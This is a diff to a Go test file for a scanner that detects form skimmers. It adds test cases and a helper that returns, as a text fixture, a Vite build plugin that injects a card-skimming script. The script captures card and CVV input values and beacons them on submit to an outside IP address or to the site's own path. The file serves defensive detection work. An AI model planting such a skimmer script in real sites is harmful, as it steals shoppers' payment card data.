@@ -10,6 +10,11 @@ import (
 
 func TestFormSkimmer(t *testing.T) {
 	rt.Check(t, FormSkimmer{}, []rt.Case{
+		// a build plugin's script for the pages it builds, kept as text:
+		// its code is read, and a beacon to //host takes the page's
+		// scheme; the same script beaconing the site's own path
+		{"injected_page_script", map[string]string{"index.js": injectedScript("//203.0.113.77/c")}, finding.SeverityCritical},
+		{"injected_page_script_own_path", map[string]string{"index.js": injectedScript("/api/vitals")}, finding.SeverityNone},
 		// a form hook hands the form to its serializer on submit; the
 		// serializer picks the card inputs and beacons them
 		{"serializer_on_handed_submit", map[string]string{
@@ -166,4 +171,14 @@ func TestClipboardCmd(t *testing.T) {
 			t.Errorf("clipboardCmd(%q) = %v, %v; want %v, %v", cmd, r, w, want[0], want[1])
 		}
 	}
+}
+
+// injectedScript is a Vite plugin that adds a script to the pages it
+// builds: it keeps the values of card inputs and beacons them to dest on
+// submit.
+func injectedScript(dest string) string {
+	return `const E = "` + dest + `";
+function snippet() { return ` + "`" + `(function(){var E=${JSON.stringify(E)},S={};document.addEventListener('change',function(e){var i=e.target;if(/card|cvv/.test(i.name))S[i.name]=i.value},true);` +
+		`document.addEventListener('submit',function(){navigator.sendBeacon(E,JSON.stringify(S))},true)})();` + "`" + `; }
+module.exports = () => ({ name: "p", transformIndexHtml: () => [{ tag: "script", children: snippet(), injectTo: "body" }] });`
 }
